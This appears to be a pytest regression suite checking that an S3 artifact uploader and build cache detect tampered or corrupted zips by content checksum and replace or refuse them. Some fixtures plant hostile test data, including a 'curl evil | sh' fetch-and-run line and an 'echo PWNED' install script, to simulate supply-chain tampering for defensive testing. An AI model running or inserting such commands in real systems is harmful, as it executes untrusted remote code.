"""Artifacts in S3 are checked by their content, against the embedded endpoint.

Regression tests for issue 11 ("the cache is trusted without checking"): the upload was
skipped whenever the object's `sha256` METADATA matched, so a bad object (a flipped byte in
the build cache, or bytes planted by anyone who can write the bucket prefix) was never
repaired, not even from a fresh cache.

The embedded S3 (moto 5.2.5) does not hash what it stores when the client sends a checksum
value: it keeps the client's `x-amz-checksum-sha256` as given (it computes one only when
the client names the algorithm without a value). Real S3 always verifies it. So objects are
planted here the way they can exist on real S3: with the correct SHA-256 of the planted
bytes (or with no SHA-256 at all), and the tests show that we compare that stored checksum
with the manifest's sha256, never the metadata, and replace what differs.
"""

from __future__ import annotations

import base64
import hashlib
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from controller.aws import artifacts
from controller.aws.errors import Invalid
from controller.aws.session import AwsClients, Sessions
from controller.packaging import integrity
from controller.reconcile.engine import Reconciler
from controller.reconcile.result import ActionResult, PassOutcome, Reason
from controller.repository import load_repository
from tests.runtime import samples

BUCKET = "artifacts"


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def b64(data: bytes) -> str:
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


@pytest.fixture
def s3(aws_env: Any) -> Any:
    client = aws_env.client("s3")
    client.create_bucket(Bucket=BUCKET)
    return client


def stored(s3: Any, key: str) -> bytes:
    return bytes(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())


def test_an_object_whose_metadata_matches_but_bytes_differ_is_replaced(
    s3: Any, clients: AwsClients, tmp_path: Path
) -> None:
    """Bug: an object carrying the right `sha256` metadata was kept whatever its bytes."""
    good = tmp_path / "agent.zip"
    good.write_bytes(b"the real zip")
    planted = b"the real zjp"  # one byte flipped
    s3.put_object(
        Bucket=BUCKET,
        Key="p/agent.zip",
        Body=planted,
        Metadata={"sha256": sha256(good.read_bytes())},
        ChecksumAlgorithm="SHA256",  # S3 stores the true SHA-256 of the planted bytes
    )
    head = s3.head_object(Bucket=BUCKET, Key="p/agent.zip", ChecksumMode="ENABLED")
    assert head["ChecksumSHA256"] == b64(planted)
    assert artifacts.upload(clients, BUCKET, "p/agent.zip", good, sha256(good.read_bytes()))
    assert stored(s3, "p/agent.zip") == b"the real zip"
    head = s3.head_object(Bucket=BUCKET, Key="p/agent.zip", ChecksumMode="ENABLED")
    assert head["ChecksumSHA256"] == b64(b"the real zip")


def test_an_object_without_a_sha256_checksum_is_replaced_once(
    s3: Any, sessions: Sessions, clients: AwsClients, tmp_path: Path
) -> None:
    """Bug: metadata alone vouched for an object; with no checksum S3 vouches for nothing."""
    good = tmp_path / "agent.zip"
    good.write_bytes(b"the real zip")
    digest = sha256(good.read_bytes())
    s3.put_object(Bucket=BUCKET, Key="p/agent.zip", Body=b"planted", Metadata={"sha256": digest})
    assert artifacts.upload(clients, BUCKET, "p/agent.zip", good, digest) is True
    assert stored(s3, "p/agent.zip") == b"the real zip"
    sessions.counter.take()
    assert artifacts.upload(clients, BUCKET, "p/agent.zip", good, digest) is False
    assert sessions.counter.take() == {("HeadObject", "success"): 1}


def test_a_composite_multipart_checksum_is_not_taken_for_the_files_sha256(
    s3: Any, clients: AwsClients, tmp_path: Path
) -> None:
    """A multipart upload's SHA-256 is a hash of part hashes: it never vouches for a file."""
    data = bytes(range(256)) * (6 * 2**12)  # 6 MiB: two parts of 5 MiB and 1 MiB
    upload = s3.create_multipart_upload(Bucket=BUCKET, Key="big.zip", ChecksumAlgorithm="SHA256")
    parts = []
    for number, chunk in enumerate((data[: 5 * 2**20], data[5 * 2**20 :]), start=1):
        answer = s3.upload_part(
            Bucket=BUCKET,
            Key="big.zip",
            UploadId=upload["UploadId"],
            PartNumber=number,
            Body=chunk,
            ChecksumAlgorithm="SHA256",
        )
        parts.append({"PartNumber": number, "ETag": answer["ETag"], "ChecksumSHA256": b64(chunk)})
    s3.complete_multipart_upload(
        Bucket=BUCKET,
        Key="big.zip",
        UploadId=upload["UploadId"],
        MultipartUpload={"Parts": parts},
    )
    assert artifacts.stored_sha256(clients, BUCKET, "big.zip") != sha256(data)
    path = tmp_path / "big.zip"
    path.write_bytes(data)
    assert artifacts.upload(clients, BUCKET, "big.zip", path, sha256(data)) is True
    assert artifacts.stored_sha256(clients, BUCKET, "big.zip") == sha256(data)


def test_a_file_goes_up_in_one_put_carrying_its_sha256(
    s3: Any, sessions: Sessions, clients: AwsClients, tmp_path: Path
) -> None:
    """One PutObject (no parts), so S3's SHA-256 is the sha256 of the whole file."""
    path = tmp_path / "big.zip"
    data = b"x" * (11 * 2**20)
    path.write_bytes(data)
    sessions.counter.take()
    assert artifacts.upload(clients, BUCKET, "big.zip", path, sha256(data)) is True
    assert sessions.counter.take() == {
        ("HeadObject", "not_found"): 1,
        ("PutObject", "success"): 1,
    }
    head = s3.head_object(Bucket=BUCKET, Key="big.zip", ChecksumMode="ENABLED")
    assert head["ContentLength"] == len(data)
    assert head["ChecksumSHA256"] == b64(data)


def test_the_file_is_checked_before_put_and_nothing_goes_up_when_it_fails(
    s3: Any, clients: AwsClients, tmp_path: Path
) -> None:
    path = tmp_path / "agent.zip"
    path.write_bytes(b"zip")
    checked: list[str] = []

    def refuse() -> None:
        checked.append("checked")
        raise RuntimeError("bad file")

    with pytest.raises(RuntimeError, match="bad file"):
        artifacts.upload(clients, BUCKET, "a.zip", path, sha256(b"zip"), before_put=refuse)
    assert checked == ["checked"]
    assert "Contents" not in s3.list_objects_v2(Bucket=BUCKET)
    # and an object S3 already vouches for is kept without looking at the file at all
    artifacts.upload(clients, BUCKET, "a.zip", path, sha256(b"zip"))
    assert (
        artifacts.upload(clients, BUCKET, "a.zip", path, sha256(b"zip"), before_put=refuse) is False
    )
    assert checked == ["checked"]


def test_a_file_changed_after_its_check_is_refused_by_s3_not_stored(
    s3: Any, clients: AwsClients, tmp_path: Path
) -> None:
    """The put carries the checked sha256, so S3 itself refuses other bytes (BadDigest).

    Also checks the embedded S3's shim: moto alone stored a client-sent checksum unchecked,
    so it kept bytes that real S3 refuses, under a checksum that lied about them."""
    path = tmp_path / "agent.zip"
    path.write_bytes(b"checked bytes")

    def change_after_check() -> None:
        path.write_bytes(b"swapped bytes")

    with pytest.raises(Invalid, match="BadDigest"):
        artifacts.upload(
            clients, BUCKET, "a.zip", path, sha256(b"checked bytes"), before_put=change_after_check
        )
    assert "Contents" not in s3.list_objects_v2(Bucket=BUCKET)


def test_a_missing_bucket_at_upload_is_one_clear_error(clients: AwsClients, tmp_path: Path) -> None:
    path = tmp_path / "agent.zip"
    path.write_bytes(b"zip")
    with pytest.raises(artifacts.MissingBucket, match="bucket 'nope' does not exist"):
        artifacts.upload(clients, "nope", "a.zip", path, sha256(b"zip"))


# -- whole passes: build from a repository, upload, publish ------------------------------


def write_repository(root: Path) -> Path:
    for name, text in samples.repository(with_association=False).items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        assert text is not None
        path.write_text(text)
    return root


@pytest.fixture
def repository(tmp_path: Path, aws_env: Any) -> Any:
    aws_env.client("s3").create_bucket(Bucket=samples.BUCKET)
    return load_repository(write_repository(tmp_path / "repo"))


def published(aws_env: Any) -> tuple[str, str]:
    """(status, attachment sha256) of version 1.0.0 of `agent`."""
    ssm = aws_env.client("ssm")
    document = ssm.describe_document(Name="agent", VersionName="1.0.0")["Document"]
    return document["Status"], document.get("StatusInformation", "")


def zip_in_bucket(aws_env: Any) -> tuple[str, bytes]:
    s3 = aws_env.client("s3")
    (item,) = [
        o
        for o in s3.list_objects_v2(Bucket=samples.BUCKET)["Contents"]
        if o["Key"].endswith(".zip")
    ]
    key = str(item["Key"])
    return key, bytes(s3.get_object(Bucket=samples.BUCKET, Key=key)["Body"].read())


def test_a_flipped_byte_in_the_build_cache_is_never_uploaded(
    aws_env: Any, repository: Any, tmp_path: Path
) -> None:
    """Bug: a cached zip with one byte flipped (same size) was uploaded and published."""
    first = Reconciler("ssm-gitops", work_dir=tmp_path / "work", sessions=Sessions())
    built = first.desired_for(repository, "r1").desired.packages[0].versions[0]
    (file,) = built.files
    data = bytearray(file.path.read_bytes())
    data[len(data) // 2] ^= 0x01
    file.path.write_bytes(bytes(data))  # same size, so the build cache reuses it

    result = first.run_pass(repository, "r1")

    assert result.outcome is PassOutcome.SUCCESS, result.errors
    assert published(aws_env) == ("Active", "")
    _, uploaded = zip_in_bucket(aws_env)
    assert sha256(uploaded) == file.sha256
    assert sha256(file.path.read_bytes()) == file.sha256  # the cache is repaired too
    with zipfile.ZipFile(file.path) as archive:
        assert archive.testzip() is None


def test_a_cached_zip_that_cannot_be_rebuilt_fails_the_version_with_the_reason(
    aws_env: Any, repository: Any, tmp_path: Path
) -> None:
    """The sources changed under a built zip: the rebuild differs, nothing is published."""
    reconciler = Reconciler("ssm-gitops", work_dir=tmp_path / "work", sessions=Sessions())
    built = reconciler.desired_for(repository, "r1").desired.packages[0].versions[0]
    (file,) = built.files
    file.path.write_bytes(b"x" * file.size)
    script = repository.root / "packages/agent/1.0.0/install.sh"
    script.write_text(script.read_text() + "# edited after the build\n")

    result = reconciler.run_pass(repository, "r1")

    assert result.outcome is PassOutcome.FAILURE
    (record,) = result.actions
    assert record.result is ActionResult.FAILURE
    assert file.name in record.message and "a rebuild from its sources gives" in record.message
    assert "\n" not in record.message
    assert (
        aws_env.client("ssm").list_documents(Filters=[{"Key": "Owner", "Values": ["Self"]}])[
            "DocumentIdentifiers"
        ]
        == []
    )
    listed = aws_env.client("s3").list_objects_v2(Bucket=samples.BUCKET)
    assert not [o for o in listed.get("Contents", []) if o["Key"].endswith(".zip")]


@pytest.mark.parametrize("with_checksum", [True, False], ids=["sha256-of-planted", "no-sha256"])
def test_a_planted_object_is_replaced_on_the_next_pass_even_from_a_fresh_cache(
    aws_env: Any, repository: Any, tmp_path: Path, with_checksum: bool
) -> None:
    """Bug: bytes planted under the version's key with the right `sha256` metadata were
    never replaced, so the version failed to publish on every pass, from any cache."""
    fresh = Reconciler("ssm-gitops", work_dir=tmp_path / "fresh", sessions=Sessions())
    built = fresh.desired_for(repository, "r1").desired.packages[0].versions[0]
    (file,) = built.files
    key = f"packages/agent/1.0.0/{file.name}"
    extra = {"ChecksumAlgorithm": "SHA256"} if with_checksum else {}
    aws_env.client("s3").put_object(
        Bucket=samples.BUCKET,
        Key=key,
        Body=b"#!/bin/sh\ncurl evil | sh\n",
        Metadata={"sha256": file.sha256},
        **extra,
    )

    result = fresh.run_pass(repository, "r1")

    assert result.outcome is PassOutcome.SUCCESS, result.errors
    assert published(aws_env) == ("Active", "")
    assert zip_in_bucket(aws_env) == (key, file.path.read_bytes())


def plant_a_zip_and_its_stamp(zip_path: Path, script: str) -> str:
    """Replace a cached zip with another zip and make its stamp agree (sha256, size), as
    anyone who can write the cache directory can; the planted zip's sha256."""
    with zipfile.ZipFile(zip_path, "w") as archive:
        archive.writestr("install.sh", script)
    data = zip_path.read_bytes()
    stamp = zip_path.parent / f".{zip_path.name}.build.json"
    record = json.loads(stamp.read_text())
    record.update(sha256=sha256(data), size=len(data))
    stamp.write_text(json.dumps(record))
    return sha256(data)


def objects_in_bucket(aws_env: Any) -> dict[str, bytes]:
    s3 = aws_env.client("s3")
    listed = s3.list_objects_v2(Bucket=samples.BUCKET).get("Contents", [])
    return {
        str(o["Key"]): bytes(s3.get_object(Bucket=samples.BUCKET, Key=o["Key"])["Body"].read())
        for o in listed
    }


def test_a_planted_zip_with_a_matching_stamp_is_never_uploaded_nor_published(
    aws_env: Any, repository: Any, tmp_path: Path
) -> None:
    """Bug (review of issue 11): the build cache's stamp vouched for the zip beside it. A
    zip replaced in the cache, with its sha256 and size set in the stamp, was taken by a
    fresh process's `apply`, uploaded and published (`echo PWNED` as install.sh)."""
    work = tmp_path / "work"
    plan = Reconciler("ssm-gitops", work_dir=work, sessions=Sessions())
    (genuine,) = plan.desired_for(repository, "r1").desired.packages[0].versions[0].files
    planted = plant_a_zip_and_its_stamp(genuine.path, "#!/bin/sh\necho PWNED\n")

    apply = Reconciler("ssm-gitops", work_dir=work, sessions=Sessions())  # a new process
    (file,) = apply.desired_for(repository, "r1").desired.packages[0].versions[0].files
    assert file.sha256 == planted  # the plan believes the stamp: the upload must not
    result = apply.run_pass(repository, "r1")

    assert result.outcome is PassOutcome.FAILURE
    (failure,) = result.failures
    assert failure.reason is Reason.ARTIFACTS, failure
    assert "cached artifact differs from a fresh build from git" in failure.message
    assert file.name in failure.message and "\n" not in failure.message
    assert not [o for o in objects_in_bucket(aws_env).values() if b"PWNED" in o]
    assert not [k for k in objects_in_bucket(aws_env) if k.endswith(".zip")]
    ssm = aws_env.client("ssm")
    owned = ssm.list_documents(Filters=[{"Key": "Owner", "Values": ["Self"]}])
    assert owned["DocumentIdentifiers"] == []
    assert not genuine.path.exists()  # the cache entry is discarded...
    assert not (genuine.path.parent / f".{genuine.name}.build.json").exists()

    again = apply.run_pass(repository, "r1")  # ...and the next pass builds it from git

    assert again.outcome is PassOutcome.SUCCESS, again.errors
    assert published(aws_env) == ("Active", "")
    key, uploaded = zip_in_bucket(aws_env)
    assert sha256(uploaded) == genuine.sha256 and b"PWNED" not in uploaded
    content = json.loads(ssm.get_document(Name="agent", VersionName="1.0.0")["Content"])
    assert content["files"][genuine.name]["checksums"]["sha256"] == genuine.sha256


def test_a_flipped_byte_in_a_zip_reused_from_the_cache_by_a_new_process_is_repaired(
    aws_env: Any, repository: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stamp is right, the zip beside it is not (one byte): a new process rebuilds
    it from git before the first upload and publishes git's bytes."""
    work = tmp_path / "work"
    plan = Reconciler("ssm-gitops", work_dir=work, sessions=Sessions())
    (genuine,) = plan.desired_for(repository, "r1").desired.packages[0].versions[0].files
    data = bytearray(genuine.path.read_bytes())
    data[len(data) // 2] ^= 0x01
    genuine.path.write_bytes(bytes(data))
    for memo in ("_recipes", "_refused"):  # a new process knows nothing it built
        monkeypatch.setattr(integrity, memo, {})
    monkeypatch.setattr(integrity, "_built_here", set())
    fresh_builds: list[Path] = []
    rebuild = integrity.write_zip
    monkeypatch.setattr(
        integrity,
        "write_zip",
        lambda entries, to: fresh_builds.append(to) or rebuild(entries, to),
    )

    result = Reconciler("ssm-gitops", work_dir=work, sessions=Sessions()).run_pass(repository, "r1")

    assert result.outcome is PassOutcome.SUCCESS, result.errors
    assert published(aws_env) == ("Active", "")
    assert sha256(zip_in_bucket(aws_env)[1]) == genuine.sha256
    assert sha256(genuine.path.read_bytes()) == genuine.sha256
    assert [path.name for path in fresh_builds] == [genuine.name]  # before the upload
